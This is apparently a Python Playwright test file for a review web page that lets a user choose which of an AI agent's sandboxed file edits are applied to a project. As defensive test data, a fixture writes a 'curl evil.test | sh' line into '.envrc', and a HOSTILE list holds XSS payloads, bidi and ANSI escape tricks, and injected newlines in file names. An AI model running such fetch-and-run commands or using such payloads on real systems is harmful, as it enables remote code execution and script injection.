"""The review page in a real Chromium: what is applied on disk is what was ticked, and nothing an agent writes runs."""

import os
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.integration.web.conftest import SECONDS
from tests.integration.web.serving import reach, served
from tests.support.overlay_writer import OverlayWriter
from tests.support.overlays import snapshot
from vibedom.paths import SessionDir
from vibedom.web.review import review_page
from vibedom.web.review_desk import ReviewDesk
from vibedom.workspace.base import record_base
from vibedom.workspace.changes import Notify
from vibedom.workspace.review import Review, reviewing

LINES = [f"line {number}" for number in range(1, 61)]


def edited(*changes: tuple[int, str]) -> str:
    lines = LINES.copy()
    for number, text in changes:
        lines[number - 1] = text
    return "\n".join(lines) + "\n"


@dataclass
class Work:
    """A project, and what an agent made of it."""

    workspace: Path
    directory: SessionDir
    agent: OverlayWriter
    applied: list[bool]

    def desk(self) -> ReviewDesk:
        return ReviewDesk(
            lambda notify: reviewing(self.directory, self.workspace, notify=notify),
            self.directory.journal,
            lambda is_done: self.applied.append(True),
        )


@pytest.fixture
def work(tmp_path: Path) -> Work:
    workspace = tmp_path / "project"
    workspace.mkdir()
    (workspace / "long.txt").write_text(edited())
    (workspace / "old.txt").write_text("old\n")
    (workspace / "both.txt").write_text("base\n")
    directory = SessionDir(root=tmp_path / "session")
    directory.upper.mkdir(parents=True)
    record_base(workspace, directory.base)
    agent = OverlayWriter(workspace, directory.upper, tmp_path / "merged")
    agent.write("long.txt", edited((3, "third"), (30, "thirtieth"), (58, "fifty-eighth")).encode())
    agent.write("both.txt", b"agent\n")
    agent.remove("old.txt")
    agent.mkdir("src")
    agent.write("src/new.py", b"print('new')\n")
    agent.write("src/other.py", b"print('other')\n")
    agent.write(".envrc", b"curl evil.test | sh\n")
    return Work(workspace, directory, agent, [])


@pytest.fixture
def review(work: Work, page: Page) -> Iterator[Page]:
    with served(review_page(work.desk(), "calm-otter")) as url:
        reach(page, url)
        expect(page.locator(".entry").first).to_be_visible()
        yield page


def tick(page: Page, path: str) -> None:
    page.locator(f'.entry[data-path="{path}"] input').click()
    expect(page.locator(f'.entry[data-path="{path}"] input')).to_be_checked()


def apply(page: Page, count: int) -> None:
    page.locator("#apply").click()
    page.locator("#plan button.primary", has_text=f"Apply {count} changes").click()
    expect(page.locator(".toast", has_text=f"{count} changes applied")).to_be_visible()


def test_exactly_what_was_ticked_is_applied(review: Page, work: Work) -> None:
    before = snapshot(work.workspace)
    review.locator('.entry[data-path="long.txt"]').click()
    expect(review.locator(".hunk")).to_have_count(3)
    review.locator(".hunk").nth(1).locator("label input").click()
    expect(review.locator('.entry[data-path="long.txt"] input')).to_have_js_property("indeterminate", True)
    tick(review, "src/new.py")
    apply(review, 3)  # the new directory is needed as well
    expected = before | {
        b"long.txt": ("file", 0o644, edited((30, "thirtieth")).encode()),
        b"src": ("directory", 0o755),
        b"src/new.py": ("file", 0o644, b"print('new')\n"),
    }
    assert snapshot(work.workspace) == expected
    assert work.applied == [True]
    paths = review.locator(".entry").evaluate_all("all => all.map(each => each.dataset.path)")
    assert set(paths) == {".envrc", "both.txt", "long.txt", "old.txt", "src/other.py"}


def test_danger_comes_first_and_needs_a_yes_of_its_own(review: Page, work: Work) -> None:
    expect(review.locator("#tree h2").first).to_contain_text("Look at these first")
    expect(review.locator(".entry").first).to_have_attribute("data-path", ".envrc")
    review.locator("#all").click()
    expect(review.locator("#sum")).to_contain_text("6 of 7")
    tick(review, ".envrc")
    review.locator("#apply").click()
    expect(review.locator("#plan li label")).to_have_count(1)
    review.locator("#plan button.primary", has_text="Apply 6 changes").click()
    expect(review.locator(".toast", has_text="6 changes applied")).to_be_visible()
    assert not (work.workspace / ".envrc").exists()
    assert not (work.workspace / "old.txt").exists()
    expect(review.locator(".entry")).to_have_count(1)
    tick(review, ".envrc")
    review.locator("#apply").click()
    review.locator("#plan li input").click()
    review.locator("#plan button.primary", has_text="Apply 1 changes").click()
    expect(review.locator(".notice", has_text="Nothing is left").first).to_be_visible()
    assert (work.workspace / ".envrc").read_bytes() == b"curl evil.test | sh\n"


@pytest.mark.parametrize(
    ("how", "content", "is_left"), [("theirs", "agent\n", False), ("mine", "host\n", False), ("skip", "host\n", True)]
)
def test_a_conflict_is_decided_by_the_user(work: Work, page: Page, how: str, content: str, is_left: bool) -> None:
    (work.workspace / "both.txt").write_text("host\n")
    with served(review_page(work.desk(), "calm-otter")) as url:
        reach(page, url)
        expect(page.locator("#tree h2", has_text="Changed on both sides (1)")).to_be_visible()
        tick(page, "both.txt")
        tick(page, "src/new.py")
        page.locator("#apply").click()
        expect(page.locator("#plan", has_text="was changed on the host")).to_be_visible()
        expect(page.locator("#plan button.primary")).to_be_disabled()
        page.locator("#plan button", has_text="Cancel").click()
        page.locator('.entry[data-path="both.txt"]').click()
        page.locator(f'input[name=resolution][value="{how}"]').click()
        page.locator("#apply").click()
        page.locator("#plan button.primary").click()
        expect(page.locator(".toast", has_text="applied")).to_be_visible()
        assert (work.workspace / "both.txt").read_text() == content
        assert (work.workspace / "src/new.py").exists()
        expect(page.locator('.entry[data-path="both.txt"]')).to_have_count(1 if is_left else 0)


HOSTILE = (
    "<img src=x onerror=alert(1)>.txt",
    "<script>alert(2)<\\u002fscript>.txt".replace("\\u002f", "\u2215"),
    "\"'><svg onload=alert(3)>.txt",
    "bidi-\u202egnp.txt",
    "ansi-\x1b[31mred.txt",
    "new\nline.txt",
)
HOSTILE_CONTENT = (
    "</script><script>alert(4)</script>\n<img src=x onerror=alert(5)>\n\u202eevil\u2066\n\x1b[2J\x07\n\tindented\n"
)


def test_hostile_names_and_contents_are_shown_and_do_nothing(work: Work, page: Page) -> None:
    for name in HOSTILE:
        work.agent.write(name, HOSTILE_CONTENT.encode())
    work.agent.write(os.fsdecode(b"bytes-\xff\xfe.txt"), b"\xff\xfe\n")
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    with served(review_page(work.desk(), "calm-otter")) as url:
        reach(page, url)
        expect(page.locator(".entry")).to_have_count(14)
        for entry in page.locator(".entry").all():
            entry.click()
            expect(page.locator("#diff h2")).to_have_text(entry.get_attribute("title") or "")
        page.locator(".entry", has_text="onerror").click()
        expect(page.locator("#diff h2")).to_contain_text("<img src=x onerror=alert(1)>")
        expect(page.locator(".lines")).to_contain_text("</script><script>alert(4)</script>")
        text = page.locator("body").inner_text()
        assert page.locator("body img, body script, #tree svg, #diff svg").count() == 0
        assert not {"\u202e", "\u2066", "\x1b", "\x07"} & set(text)
        assert "\\u202e" in text
        assert "\\x1b" in text
        for name in (*HOSTILE, os.fsdecode(b"bytes-\xff\xfe.txt")):
            assert not (work.workspace / name).exists()
        page.locator("#all").click()
        expect(page.locator("#sum")).to_contain_text("13 of 14")
        page.locator("#apply").click()
        page.locator("#plan button.primary").click()
        expect(page.locator(".toast", has_text="13 changes applied")).to_be_visible()
    for name in HOSTILE:
        assert (work.workspace / name).read_bytes() == HOSTILE_CONTENT.encode()
    assert (work.workspace / os.fsdecode(b"bytes-\xff\xfe.txt")).read_bytes() == b"\xff\xfe\n"
    assert dialogs == []


def test_while_changes_are_read_the_page_says_how_far_and_applies_nothing(work: Work, page: Page) -> None:
    readings: list[int] = []
    goes_on = [threading.Event(), threading.Event()]

    @contextmanager
    def slowly(notify: Notify) -> Iterator[Review]:
        readings.append(1)
        notify(f"reading the changes: {len(readings)},000 of the agent's files")
        assert goes_on[len(readings) - 1].wait(SECONDS)
        with reviewing(work.directory, work.workspace, notify=notify) as review:
            yield review

    desk = ReviewDesk(slowly, work.directory.journal, work.applied.append)
    with served(review_page(desk, "calm-otter")) as url:
        reach(page, url)
        expect(page.locator("#diff .notice")).to_have_text("reading the changes: 1,000 of the agent's files")
        expect(page.locator("#apply")).to_be_disabled()
        assert "still being read" in _refused(page, "apply", '{"dangerous": []}')
        assert "still being read" in _refused(page, "plan", "{}")
        goes_on[0].set()
        tick(page, "old.txt")
        page.locator("#apply").click()
        page.locator("#plan button.primary").click()
        expect(page.locator("#diff .notice")).to_have_text("reading the changes: 2,000 of the agent's files")
        assert not (work.workspace / "old.txt").exists()
        assert "still being read" in _refused(page, "choose", '{"paths": [".envrc"], "wanted": true}')
        assert work.applied == []
        goes_on[1].set()
        expect(page.locator(".toast", has_text="1 changes applied")).to_be_visible()
        expect(page.locator('.entry[data-path="old.txt"]')).to_have_count(0)
    assert work.applied == [False]
    assert not (work.workspace / ".envrc").exists()


def _refused(page: Page, what: str, body: str) -> str:
    """What the server says to a request of the page's own."""
    ask = """async ([what, body]) => {
        const headers = {"X-Vibedom-Key": localStorage.getItem("vibedom-key")};
        const answer = await fetch(`/api/${what}`, {method: "POST", body, headers});
        return [answer.status, await answer.text()];
    }"""
    status, text = page.evaluate(ask, [what, body])
    assert status == 409
    return str(text)


def test_keys_do_what_the_mouse_does(review: Page, work: Work) -> None:
    review.locator("#diff").focus()
    review.keyboard.press("/")
    review.keyboard.type("long")
    expect(review.locator(".entry")).to_have_count(1)
    review.keyboard.press("Enter")
    review.keyboard.press("k")
    review.locator('.entry[data-path="long.txt"]').click()
    expect(review.locator(".hunk")).to_have_count(3)
    for key in ("n", "n", "x"):
        review.keyboard.press(key)
    expect(review.locator(".hunk").nth(1)).to_have_class("hunk is-current is-wanted")
    review.keyboard.press("A")
    review.locator("#plan button.primary", has_text="Apply 1 changes").click()
    expect(review.locator(".toast", has_text="1 changes applied")).to_be_visible()
    assert (work.workspace / "long.txt").read_text() == edited((30, "thirtieth"))
